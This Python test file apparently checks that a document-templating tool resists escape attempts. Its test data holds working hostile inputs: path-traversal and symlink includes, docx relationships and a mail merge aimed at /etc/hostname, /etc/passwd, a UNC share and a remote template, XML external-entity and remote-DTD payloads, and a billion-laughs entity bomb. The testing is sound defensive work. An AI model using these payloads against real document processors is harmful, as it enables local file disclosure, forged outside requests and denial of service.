"""Ways out of the folder: a secret lies beside it, and must not be in what is made."""

from made import *

SECRET = "秘密之物"


@several("outside", {"picture": '{{图片 "../secret.png"}}', "picture_root": '{{图片 "/etc/hostname"}}', "include": '{{include "../secret.md"}}', "include_root": '{{include "/etc/hostname.md"}}', "include_link": '{{include "link.md"}}', "include_folder": '{{include "linked/secret.md"}}'})
def outside(folder, template):
    inner = folder / "inner"
    inner.mkdir()
    (folder / "secret.md").write_text(SECRET, "utf-8")
    (folder / "secret.png").write_bytes(png(10, 10))
    (inner / "link.md").symlink_to(folder / "secret.md")
    (inner / "linked").symlink_to(folder)
    return project(inner, template)


@several("outside_word", {
    "mail_source": "", "image_link": '<Relationship Id="rId9" Type="%s/image" Target="file:///etc/hostname" TargetMode="External"/>' % OFFICE, "unc": '<Relationship Id="rId9" Type="%s/image" Target="\\\\10.0.0.1\\a\\b.png" TargetMode="External"/>' % OFFICE,
    "above": '<Relationship Id="rId9" Type="%s/image" Target="../../../../etc/hostname"/>' % OFFICE, "template": '<Relationship Id="rId9" Type="%s/attachedTemplate" Target="http://10.0.0.1/a.dotm" TargetMode="External"/>' % OFFICE})
def outside_word(folder, relation):
    settings = f'<w:settings {W} {R}><w:attachedTemplate r:id="rId1"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="textFile"/><w:connectString w:val="file:///etc/passwd"/><w:query w:val="SELECT * FROM /etc/passwd"/><w:dataSource r:id="rId1"/></w:mailMerge></w:settings>'
    source = f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" Type="{OFFICE}/mailMergeSource" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
    body = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "/etc/hostname" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT "/etc/hostname" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rId9" r:embed="rId9"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>' + paragraph("{{#each 表}}{{值}}{{/each}}"))
    package(word_parts(body, further={"word/_rels/settings.xml.rels": source}, relations=relation, settings=settings), folder / "表.docx")
    return project(folder, None, "表.docx")


@several("entities", {"laughs": '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY a{at} "&a{at - 1};&a{at - 1};&a{at - 1};&a{at - 1};">' for at in range(1, 30)) + "]>", "file": '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/hostname">]>', "remote": '<!DOCTYPE a SYSTEM "http://10.0.0.1/a.dtd">'})
def entities(folder, declared):
    body = f'{declared}<w:document {W}><w:body>{paragraph("&a;")}</w:body></w:document>'.encode()
    return convert(folder, body)


@several("entities_template", {"laughs": '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">]>', "file": '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/hostname">]>'})
def entities_template(folder, declared):
    return word_project(folder, f'{declared}<w:document {W}><w:body>{paragraph("&a;")}</w:body></w:document>'.encode())
